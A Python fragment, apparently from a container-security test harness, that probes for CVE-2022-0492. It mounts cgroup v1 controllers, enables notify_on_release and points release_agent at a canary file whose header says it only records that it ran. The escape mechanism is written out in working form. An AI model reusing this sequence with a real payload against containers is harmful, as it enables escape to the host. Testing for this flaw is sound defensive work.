# CVE-2022-0492: a program that the host runs when a cgroup of version 1 becomes empty. First a cgroup tree has to be found
# or mounted. The program named is a file that would only say that it was run.
import glob, subprocess

place = "/tmp/cgroup"
os.makedirs(place, exist_ok=True)
text = lambda word: ctypes.c_char_p(word)


def mounted(options):
    syscall(CALLS["mount"], text(b"none"), text(place.encode()), text(b"cgroup"), 0, text(options.encode()))


def write(path, value):
    descriptor = os.open(path, os.O_WRONLY)
    os.write(descriptor, value.encode())
    os.close(descriptor)


reached = None
for controller in ("rdma", "pids", "devices", "memory", "freezer", "none,name=systemd"):
    before = len(through)
    attempt("mount " + controller, lambda: mounted(controller))
    if len(through) > before:
        reached = controller
        break
attempt("mount version 2", lambda: syscall(CALLS["mount"], text(b"none"), text(b"/mnt"), text(b"cgroup2"), 0, text(b"")))
for path in (place + "/notify_on_release", place + "/cgroup.clone_children", "/sys/fs/cgroup/notify_on_release"):
    attempt(path, lambda: write(path, "1"))
for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + [place + "/release_agent"]:
    attempt("release_agent", lambda: write(path, "/tmp/canary"))
attempt("new cgroup", lambda: os.mkdir("/sys/fs/cgroup/nested"))
done()
